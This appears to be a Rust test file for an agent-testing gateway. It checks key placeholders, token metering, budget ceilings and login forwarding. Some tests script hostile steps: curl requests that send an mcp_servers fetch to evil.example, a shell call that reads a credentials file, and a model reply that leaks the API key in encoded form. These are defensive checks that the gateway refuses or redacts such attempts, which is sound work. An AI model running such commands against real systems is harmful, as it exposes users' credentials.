//! The model gateway end to end: real agent CLIs talk to the scripted model only through
//! aptitude's gateway, holding a placeholder key, while the scripted model gets the real
//! one; the gateway's metering matches what the model sent (checked on every agent's run
//! of `agents::one_test_file_gives_the_same_verdicts_on_every_agent`); a token ceiling
//! stops a run in its middle.

use serde_json::Value;

use crate::agents::{AGENTS, run_on};
use crate::run::Suite;
use crate::support::model::{ScriptedModel, Turn};

/// The variable holding the agent's key in [`run_on`]'s environment, and its real value.
pub(crate) fn key_of(agent: &str) -> (&'static str, &'static str) {
    match agent {
        "claude" => ("ANTHROPIC_API_KEY", "sk-ant-test-scripted"),
        "gemini" => ("GEMINI_API_KEY", "sk-test-gemini"),
        "copilot" => ("COPILOT_PROVIDER_API_KEY", "sk-test-copilot"),
        _ => ("OPENAI_API_KEY", "sk-test-openai"),
    }
}

/// Tokens the scripted model reports per reply: Anthropic input 100 + cache read 20 +
/// output 7; the OpenAI and Gemini protocols count the 20 cached tokens inside their 100
/// input tokens.
fn tokens_per_reply(agent: &str) -> u64 {
    if agent == "claude" { 127 } else { 107 }
}

/// What the gateway must show of `name`'s passed run `test` whose first shell call printed
/// the agent's own key variable, given the scripted model's `requests`: every request
/// reached the model with the real key although the agent's own environment holds only a
/// placeholder, and the gateway counts exactly the requests and tokens the model served.
/// Checked on every agent's run in `agents::one_test_file_gives_the_same_verdicts_on_every_agent`.
pub(crate) fn assert_through_the_gateway(
    name: &str,
    test: &Value,
    requests: &[crate::support::model::Request],
) {
    let (_, real) = key_of(name);
    assert!(!requests.is_empty(), "{name}");
    for request in requests {
        let values: Vec<&str> = request.header_values().collect();
        assert!(
            values.iter().any(|v| v.contains(real)),
            "{name}: {} carried no real key: {:?}",
            request.path,
            request.headers
        );
        assert!(
            !request.carries_placeholder(),
            "{name}: the placeholder reached the model: {:?}",
            request.headers
        );
    }
    // The agent's shell saw the placeholder, never the real key (which results would show
    // redacted).
    // (Copilot CLI removes its provider key from its shell's environment.)
    // (Qwen Code's shell runs on a pseudo-terminal, which waits for a fast command's
    // output: see `agent::qwen::write_settings`.)
    let printed = test["transcript"]["tool_calls"][0]["output"].to_string();
    assert!(
        printed.contains("aptitude-gateway-placeholder-0-") || name == "copilot",
        "{name}: the agent's key variable held {printed}"
    );
    assert!(!printed.contains("REDACTED"), "{name}: {printed}");
    assert!(!printed.contains(real), "{name}: {printed}");
    let traffic = &test["model_traffic"];
    let served = requests.len() as u64;
    assert_eq!(traffic["requests"], served, "{name}: {traffic:#}");
    assert_eq!(traffic["failed"], 0, "{name}: {traffic:#}");
    assert_eq!(traffic["retries"], 0, "{name}: {traffic:#}");
    let total = [
        "input_tokens",
        "output_tokens",
        "cache_read_input_tokens",
        "cache_creation_input_tokens",
    ]
    .iter()
    .map(|k| traffic[k].as_u64().unwrap())
    .sum::<u64>();
    assert_eq!(
        total,
        served * tokens_per_reply(name),
        "{name}: {traffic:#}"
    );
    assert_eq!(traffic["cache_read_input_tokens"], served * 20, "{name}");
    assert_eq!(traffic["output_tokens"], served * 7, "{name}");
    assert_eq!(traffic["models"][0], "fake-model", "{name}: {traffic:#}");
    assert!(
        traffic.get("cost_usd").is_none(),
        "{name}: an unpriced model"
    );
    assert!(
        traffic["upstream"]
            .as_str()
            .is_some_and(|u| u.starts_with("http://127.0.0.1:")),
        "{name}: {traffic:#}"
    );
}

/// A `--max-tokens` ceiling is enforced inside a run: the request that would cross it is
/// refused by the gateway, the model never sees it, and the run ends `error`, kind
/// `budget`, saying which ceiling. On Claude Code (Messages) and Qwen Code (Chat
/// Completions), side by side.
#[test]
fn a_token_ceiling_stops_a_multi_turn_run_midway() {
    std::thread::scope(|scope| {
        let runs: Vec<_> = AGENTS
            .iter()
            .map(|a| a())
            .filter(|a| matches!(a.name, "claude" | "qwen"))
            .map(|agent| {
                scope.spawn(move || {
                    let marker = format!("CEILING-{}", agent.name.to_uppercase());
                    let model = ScriptedModel::start();
                    model.script(
                        &marker,
                        vec![
                            agent.shell_call("echo one"),
                            agent.shell_call("echo two"),
                            agent.shell_call("echo three"),
                            agent.shell_call("echo four"),
                            Turn::Text("Done.".into()),
                        ],
                    );
                    let suite = Suite::new();
                    suite.file(
                        "tests/ws/long.aptitude.yaml",
                        &format!(
                            "name: long\nprompt: \"{marker}: run four commands\"\nassertions:\n  - tool: Bash\n    called: true\n"
                        ),
                    );
                    let (code, results, stderr) =
                        run_on(&suite, &model, &agent, &["--no-grade", "--max-tokens", "300"]);
                    (agent.name, code, results, model.requests_for(&marker), stderr)
                })
            })
            .collect();
        for run in runs {
            let (name, code, results, requests, stderr) = run.join().unwrap();
            let test = &results["tests"][0];
            assert_eq!(test["status"], "error", "{name}\n{stderr}\n{test:#}");
            assert_eq!(test["error_kind"], "budget", "{name}: {test:#}");
            assert_eq!(code, 1, "{name}");
            let error = test["error"].as_str().unwrap();
            assert!(
                error.contains("--max-tokens 300 ceiling would be crossed")
                    && error.contains("refused the run's model request 3"),
                "{name}: {error}"
            );
            // Two requests served (127 or 107 tokens each); the third would cross 300.
            assert_eq!(
                requests.len(),
                2,
                "{name}: the refused request reached the model"
            );
            // Every request from the refused one on was refused (Claude Code makes a few
            // more after the error): none reached the model.
            let traffic = &test["model_traffic"];
            let sent = traffic["requests"].as_u64().unwrap();
            assert!(sent >= 3, "{name}: {traffic:#}");
            assert_eq!(
                traffic["failed"].as_u64().unwrap(),
                sent - 2,
                "{name}: {traffic:#}"
            );
            let metered = ["input_tokens", "output_tokens", "cache_read_input_tokens"]
                .iter()
                .map(|k| traffic[k].as_u64().unwrap())
                .sum::<u64>();
            assert_eq!(metered, 2 * tokens_per_reply(name), "{name}: {traffic:#}");
            // The summary's spend is at least what the gateway metered (an agent may report
            // more: Qwen Code counts its cached tokens twice).
            let spent = results["summary"]["budget"]["spent_tokens"]
                .as_u64()
                .unwrap();
            assert!(spent >= metered, "{name}: {:#}", results["summary"]);
        }
    });
}

/// A Claude login goes through the gateway too: a token in `CLAUDE_CODE_OAUTH_TOKEN`, or
/// the login file (`~/.claude/.credentials.json`), reaches the model as the agent's bearer
/// token while the agent holds only a placeholder.
#[test]
fn a_claude_login_reaches_the_model_through_the_gateway() {
    let model = ScriptedModel::start();
    model.script("LOGIN-ENV", vec![Turn::Text("hello".into())]);
    model.script(
        "LOGIN-FILE",
        vec![
            Turn::Tool(
                "Bash",
                serde_json::json!({"command": "cat \"$CLAUDE_CONFIG_DIR/.credentials.json\"", "description": "show"}),
            ),
            Turn::Text("hello".into()),
        ],
    );
    let suite = Suite::new();
    suite
        .file(
            "tests/env/env.aptitude.yaml",
            "name: env\nprompt: \"LOGIN-ENV: say hello\"\nassertions:\n  - tool: Bash\n    called: false\n",
        )
        .file(
            "tests/file/file.aptitude.yaml",
            "name: file\nprompt: \"LOGIN-FILE: say hello\"\nassertions:\n  - tool: Bash\n    called: true\n",
        );
    let run = |dir: &str, setup: &dyn Fn(&mut crate::support::cli::Aptitude)| {
        let mut cmd = crate::support::cli::Aptitude::new();
        cmd.sandbox_in(suite.path())
            .inherit_path()
            .current_dir(suite.path())
            .env("ANTHROPIC_BASE_URL", model.base_url())
            .args(["run", &format!("tests/{dir}"), "--no-grade"])
            .claude()
            .arg("--json")
            .arg(suite.results_path())
            .limit(std::time::Duration::from_secs(120));
        setup(&mut cmd);
        let out = cmd.output();
        let text = crate::support::results_text(suite.results_path())
            .unwrap_or_else(|e| panic!("no results ({e}): {}", out.stderr));
        (out, serde_json::from_str::<Value>(&text).unwrap())
    };
    let (out, results) = run("env", &|cmd| {
        cmd.env("CLAUDE_CODE_OAUTH_TOKEN", "sk-ant-oat01-real-login-token");
    });
    assert_eq!(results["tests"][0]["status"], "passed", "{}", out.stderr);
    let seen = model.requests_for("LOGIN-ENV");
    assert!(!seen.is_empty());
    for request in &seen {
        assert!(
            request
                .header_values()
                .any(|v| v == "Bearer sk-ant-oat01-real-login-token"),
            "{:?}",
            request.headers
        );
    }
    // The login file: copied into the run's private home with placeholders for its
    // tokens; the real access token is put back by the gateway.
    let dot_claude = suite.path().join("home/.claude");
    std::fs::create_dir_all(&dot_claude).unwrap();
    let far = 4_102_444_800_000u64; // 2100-01-01, in ms
    std::fs::write(
        dot_claude.join(".credentials.json"),
        serde_json::json!({"claudeAiOauth": {
            "accessToken": "sk-ant-oat01-file-access-token",
            "refreshToken": "sk-ant-ort01-file-refresh-token",
            "expiresAt": far, "scopes": ["user:inference"], "subscriptionType": "max"
        }})
        .to_string(),
    )
    .unwrap();
    let (out, results) = run("file", &|_| {});
    let seen = model.requests_for("LOGIN-FILE");
    assert!(!seen.is_empty(), "{}\n{:#}", out.stderr, results);
    for request in &seen {
        let values: Vec<&str> = request.header_values().collect();
        assert!(
            values.contains(&"Bearer sk-ant-oat01-file-access-token"),
            "{:?}",
            request.headers
        );
        assert!(!values.iter().any(|v| v.contains("placeholder")));
    }
    assert_eq!(results["tests"][0]["status"], "passed", "{}", out.stderr);
    // The agent's copy of the login file holds placeholders only.
    let shown = results["tests"][0]["transcript"]["tool_calls"][0]["output"].to_string();
    assert!(shown.contains("aptitude-gateway-placeholder-0-"), "{shown}");
    assert!(
        !shown.contains("file-access-token") && !shown.contains("file-refresh-token"),
        "{shown}"
    );
    assert!(!shown.contains("REDACTED"), "{shown}");
}

/// A tool the agent runs uses the run's own endpoint and placeholder key against the
/// gateway (Claude Code, sandboxed): Chat Completions streams — a protocol Claude Code never
/// speaks, whose usage would go unmetered — and a Messages request whose `mcp_servers`
/// would have the provider fetch an unlisted host. Each is refused with a 403, none reaches
/// the model, and the refusals are counted in the run's traffic.
#[test]
fn a_tool_can_not_spend_on_another_protocol_or_make_the_provider_fetch() {
    let agent = AGENTS
        .iter()
        .map(|a| a())
        .find(|a| a.name == "claude")
        .unwrap();
    let marker = "HOSTILE-GATEWAY-CLAUDE";
    let chat = r#"{"model":"gpt-5.5","stream":true,"messages":[{"role":"user","content":"x"}]}"#;
    let fetch = r#"{"model":"fake-model","max_tokens":10,"mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}],"messages":[{"role":"user","content":"EXFIL"}]}"#;
    let post = |path: &str, header: &str, body: &str| {
        format!(
            "curl -s -o /dev/null -w '%{{http_code}} ' -X POST \"$ANTHROPIC_BASE_URL{path}\" -H \"{header}$ANTHROPIC_API_KEY\" -H 'content-type: application/json' -d '{body}'"
        )
    };
    let script = format!(
        "for i in 1 2 3 4 5; do {chat}; done; {fetch}",
        chat = post("/v1/chat/completions", "authorization: Bearer ", chat),
        fetch = post("/v1/messages", "x-api-key: ", fetch),
    );
    let model = ScriptedModel::start();
    model.script(
        marker,
        vec![agent.shell_call(&script), Turn::Text("Done.".into())],
    );
    let suite = Suite::new();
    suite.file(
        "tests/ws/hostile.aptitude.yaml",
        &format!(
            "name: hostile\nprompt: \"{marker}: call the endpoint\"\nassertions:\n  - tool: Bash\n    called: true\n"
        ),
    );
    let (code, results, stderr) = run_on(&suite, &model, &agent, &["--no-grade"]);
    assert!(code == 0 || code == 1, "exit {code}\n{stderr}");
    let test = &results["tests"][0];
    let printed = test["transcript"]["tool_calls"][0]["output"].to_string();
    assert!(
        printed.contains("403 403 403 403 403 403"),
        "every hostile request got a 403: {printed}\n{test:#}"
    );
    for request in model.requests() {
        assert!(
            !request.path.contains("chat/completions"),
            "reached the model: {}",
            request.path
        );
        // (The agent's own later requests quote the script; the hostile one is the one
        // with `mcp_servers`.)
        assert!(
            request.body.get("mcp_servers").is_none(),
            "the fetch reached the model"
        );
    }
    let traffic = &test["model_traffic"];
    assert_eq!(traffic["refused"], 6, "{traffic:#}");
    assert_eq!(traffic["provider_fetches_refused"], 1, "{traffic:#}");
    assert!(
        traffic["refused_first"]
            .as_str()
            .is_some_and(|r| r.contains("which this run's agent does not speak")),
        "{traffic:#}"
    );
}

/// A model reply that quotes the run's real key base64-encoded or reversed (Claude Code,
/// sandboxed) never hands it to the agent: the gateway takes it out, ends the reply as an
/// error and counts it; neither form shows anywhere in the results.
#[test]
fn a_reply_quoting_the_key_in_another_form_never_reaches_the_agent() {
    use base64::Engine;
    let agent = AGENTS
        .iter()
        .map(|a| a())
        .find(|a| a.name == "claude")
        .unwrap();
    let (_, real) = key_of("claude");
    let encoded = base64::engine::general_purpose::STANDARD.encode(real);
    let reversed: String = real.chars().rev().collect();
    let marker = "ECHO-KEY-CLAUDE";
    let model = ScriptedModel::start();
    model.script(
        marker,
        vec![Turn::Text(format!("Your key: {encoded} / {reversed}"))],
    );
    let suite = Suite::new();
    suite.file(
        "tests/ws/echo.aptitude.yaml",
        &format!(
            "name: echo\nprompt: \"{marker}: say the key\"\nassertions:\n  - tool: Bash\n    called: false\n"
        ),
    );
    let (code, results, stderr) = run_on(&suite, &model, &agent, &["--no-grade"]);
    assert!(code == 0 || code == 1, "exit {code}\n{stderr}");
    let text = results.to_string();
    for form in [encoded.as_str(), reversed.as_str()] {
        assert!(!text.contains(form), "{form} reached the results: {text}");
        assert!(!stderr.contains(form), "{form} reached the terminal");
    }
    let test = &results["tests"][0];
    assert_ne!(test["status"], "passed", "{test:#}");
    let traffic = &test["model_traffic"];
    assert!(
        traffic["key_echoes"].as_u64().is_some_and(|n| n >= 1),
        "{traffic:#}"
    );
}
